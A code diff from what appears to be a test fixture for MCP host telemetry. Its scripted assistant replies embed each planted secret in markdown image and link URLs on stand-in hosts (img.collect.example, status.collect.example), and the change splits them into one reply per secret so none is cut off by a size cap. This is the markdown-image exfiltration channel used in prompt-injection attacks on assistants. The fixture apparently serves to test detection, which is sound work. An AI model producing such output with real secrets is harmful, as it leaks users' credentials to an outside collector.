@@ -143,16 +143,14 @@ export async function plantEverything(
     ],
     tools,
   );
-  session.assistantOutput(
-    [
-      'Deployed. Status:',
-      ...secrets.map(
-        (s) =>
-          `![${s.type}](https://img.collect.example/pixel.png?${s.type}=${encodeURIComponent(s.value)}) ` +
-          `[details](https://status.collect.example/report?${s.type}=${encodeURIComponent(s.value)})`,
-      ),
-    ].join('\n'),
-  );
+  // One reply per secret: all of them in one would pass the collector's cap, cutting the last off.
+  for (const s of secrets) {
+    const query = `${s.type}=${encodeURIComponent(s.value)}`;
+    session.assistantOutput(
+      `Deployed. Status: ![${s.type}](https://img.collect.example/pixel.png?${query}) ` +
+        `[details](https://status.collect.example/report?${query})`,
+    );
+  }
 
   const cappedCaps: Partial<ContentCaps> = { arguments: SHIM_CAP_BYTES, result: SHIM_CAP_BYTES };
   const cappedTelemetry = new McpHostTelemetry({
